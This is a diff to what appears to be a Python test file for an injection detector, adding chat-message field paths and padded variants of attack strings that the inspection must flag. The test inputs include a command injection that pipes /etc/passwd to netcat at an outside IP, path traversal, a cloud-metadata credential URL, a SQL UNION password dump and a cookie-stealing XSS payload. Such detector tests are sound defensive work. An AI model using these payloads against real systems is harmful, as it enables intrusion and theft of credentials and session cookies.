@@ -323,6 +323,7 @@ def test_the_name_of_a_class_that_acts_is_refused(
 CARRIED = (
     *("content.text", "params.text", "metaData.x", "extra_vars.x", "outputs.a.value", "engines.a"),
     *("nodes[].parameters.a", "breadcrumbs[].message", "stdout", "stackTrace", "rawSql", "prompt"),
+    *("messages[].content", "messages[].content[].text", "chat_history[].message"),
 )
 
 
@@ -336,5 +337,9 @@ def test_an_attack_in_a_field_that_another_app_may_have_is_refused(
         "; cat /etc/passwd | nc 10.0.0.1 4444",
         "../../../../etc/passwd",
         "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+        # Lines that look like a program's make no program of it.
+        "x' UNION SELECT username,password FROM users-- -\n# a\n# b\n# c",
+        "<img src=x onerror=alert(document.cookie)>\n# a\n# b\n# c",
+        "; cat /etc/passwd | nc 10.0.0.1 4444\n# a\n# b\n# c",
     ):
         assert in_json(inspection, name, text), text
